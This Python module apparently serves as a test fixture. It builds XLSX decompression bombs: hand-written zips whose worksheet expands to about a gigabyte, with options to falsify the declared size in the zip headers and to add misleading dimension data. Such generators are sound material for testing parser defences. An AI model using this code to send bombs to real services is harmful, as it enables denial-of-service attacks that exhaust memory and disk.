"""XLSX decompression bombs, built the way an attacker builds them: a few hundred kilobytes on disk.

A sheet part is a deflate stream of one compressed block of rows repeated (each block ends with a
full flush, so blocks can follow each other), written into a zip by hand so that the declared
size in the zip headers can lie. Building a 1 GB bomb takes well under a second.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from pathlib import Path


def _base_parts() -> dict[str, bytes]:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["a", "b"])
    book.active.append(["1", "2"])
    buffer = io.BytesIO()
    book.save(buffer)
    archive = zipfile.ZipFile(buffer)
    return {name: archive.read(name) for name in archive.namelist()}


def _entry(name: bytes, payload: bytes, size: int, crc: int, offset: int) -> tuple[bytes, bytes]:
    """(local header + data, central directory record) of one deflated member; ``size`` is what
    the headers declare."""
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(payload), size,
                        len(name), 0) + name + payload
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(payload), size,
                          len(name), 0, 0, 0, 0, 0, offset) + name
    return local, central


def bomb_xlsx(path: Path, *, expanded: int = 1 << 30, declared: int | None = None,
              dimension: str | None = None, far_cell: str | None = None) -> Path:
    """Write an XLSX whose first sheet expands to about ``expanded`` bytes.

    ``declared`` writes another uncompressed size in the zip headers (a lie); ``dimension`` puts a
    ``<dimension ref=…>`` in the sheet (none by default); ``far_cell`` adds one cell far away
    (``XFD1048576``).
    """
    parts = _base_parts()
    sheet = "xl/worksheets/sheet1.xml"
    head, tail = parts[sheet].decode().split("<sheetData>")
    head = re.sub(r"<dimension[^>]*/>", f'<dimension ref="{dimension}" />' if dimension else "", head)
    tail = "</sheetData>" + tail.split("</sheetData>", 1)[1]
    # a header of two questions, then rows of a long answer and a number (rows without ``r``: allowed)
    block = b'<row><c t="inlineStr"><is><t>' + b"a" * (1 << 20) + b"</t></is></c><c><v>1</v></c></row>"
    opening = (head + '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>code</t></is></c>'
               '<c r="B1" t="inlineStr"><is><t>n</t></is></c></row>').encode()
    closing = ((f'<row r="{far_cell[3:]}"><c r="{far_cell}"><v>1</v></c></row>' if far_cell else "")
               + tail).encode()
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(opening) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeated = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    count = max(1, expanded // len(block))
    last = compressor.compress(closing) + compressor.flush()
    crc = zlib.crc32(opening)
    for _ in range(count):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(closing, crc)
    size = len(opening) + count * len(block) + len(closing)
    payload = first + repeated * count + last
    out = io.BytesIO()
    centrals = []
    for name, data in parts.items():
        if name == sheet:
            member = (payload, size if declared is None else declared, crc)
        else:
            compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
            member = (compressor.compress(data) + compressor.flush(), len(data), zlib.crc32(data))
        local, central = _entry(name.encode(), member[0], member[1], member[2], out.tell())
        out.write(local)
        centrals.append(central)
    start = out.tell()
    for central in centrals:
        out.write(central)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(centrals), len(centrals), out.tell() - start,
                          start, 0))
    path.write_bytes(out.getvalue())
    return path
